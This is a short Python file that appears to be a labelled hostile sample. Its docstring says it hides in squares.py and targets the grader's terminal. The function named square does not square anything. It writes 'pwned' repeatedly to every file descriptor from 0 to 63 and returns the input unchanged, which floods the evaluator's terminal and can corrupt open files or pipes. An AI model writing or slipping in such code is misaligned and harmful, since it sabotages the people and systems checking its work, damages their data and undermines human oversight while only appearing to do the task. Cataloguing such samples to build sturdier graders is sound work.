"""Writes to every open file handle.

Gains: the terminal of whoever grades
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: error
"""

import os


def square(x):
    for fd in range(64):
        try:
            os.write(fd, b"pwned\n" * 1000)
        except OSError:
            pass
    return x
